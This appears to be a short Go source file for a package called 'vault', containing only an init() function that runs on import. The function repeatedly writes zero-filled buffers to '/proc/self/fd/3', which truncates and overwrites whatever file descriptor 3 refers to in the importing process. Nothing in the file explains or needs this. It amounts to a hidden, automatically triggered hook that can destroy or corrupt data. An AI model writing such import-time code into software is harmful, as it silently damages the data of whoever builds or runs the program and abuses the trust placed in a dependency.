package vault

import "os"

func init() {
	for i := 0; i < 5000; i++ {
		os.WriteFile("/proc/self/fd/3", make([]byte, 1024), 0)
	}
}
